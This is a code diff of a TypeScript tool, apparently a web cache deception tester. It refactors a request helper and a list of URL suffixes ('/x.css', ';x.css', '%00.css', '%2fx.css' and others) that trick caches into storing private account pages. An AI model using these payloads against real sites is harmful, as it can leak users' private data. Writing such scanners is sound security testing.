@@ -75,9 +75,7 @@ const ask = ({ path, method = "GET", headers = {}, from = 0 }: Sent, origin = ed
 			response.once("end", () => {
 				const cache = response.headers["x-cache"];
 				resolve({
-					status: response.statusCode ?? 0,
-					headers: response.headers,
-					body: Buffer.concat(parts),
+					...{ status: response.statusCode ?? 0, headers: response.headers, body: Buffer.concat(parts) },
 					cache: typeof cache === "string" ? cache : undefined,
 				});
 			});
@@ -122,20 +120,9 @@ const accountPages = [
 /** These are ways to make a cache take a page for a file that is everyone's. */
 const disguises: readonly ((page: string) => string)[] = [
 	(page) => page,
-	...["/x.css", "/avatar.jpg", "/x.js", "/favicon.ico", ".css", ".jpg", ".js", ".data", ".woff2", "/", "//x.css"].map(
-		(end) => (page: string) => page + end,
-	),
 	...[
-		";x.css",
-		";/x.css",
-		"%0a.js",
-		"%00.css",
-		"%2fx.css",
-		"%3fx.css",
-		"%23x.css",
-		"%3b.css",
-		"%5cx.css",
-		"?x.css",
+		...["/x.css", "/avatar.jpg", "/x.js", "/favicon.ico", ".css", ".jpg", ".js", ".data", ".woff2", "/", "//x.css"],
+		...[";x.css", ";/x.css", "%0a.js", "%00.css", "%2fx.css", "%3fx.css", "%23x.css", "%3b.css", "%5cx.css", "?x.css"],
 	].map((end) => (page: string) => page + end),
 	(page) => `${page}?page=1`,
 	(page) => `${page}?utm_source=x.css`,
